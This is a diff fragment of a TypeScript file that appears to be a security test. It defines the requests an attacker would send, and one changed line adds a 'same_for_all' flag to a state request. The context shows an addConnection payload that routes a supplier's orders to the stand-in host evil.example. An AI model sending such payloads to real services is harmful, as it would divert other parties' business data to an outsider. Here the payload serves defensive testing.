@@ -105,7 +105,7 @@ async function upload({ server }: Hosted, headers: Record<string, string>, kind:
 
 /** What an attacker would send where the example would meet nothing. */
 const aimed = ({ supplier, fileId, otherId }: Target): Partial<Record<OperationId, Sent>> => ({
-  statePack: { params: { namespace: 'depot-supply' }, body: { text: 'CS', contains: 24 } },
+  statePack: { params: { namespace: 'depot-supply' }, body: { text: 'CS', contains: 24, same_for_all: true } },
   addConnection: {
     body: { namespace: 'evil-supply', adapter: 'price-list', settings: ordersTo('https://evil.example', 'theirs') },
   },
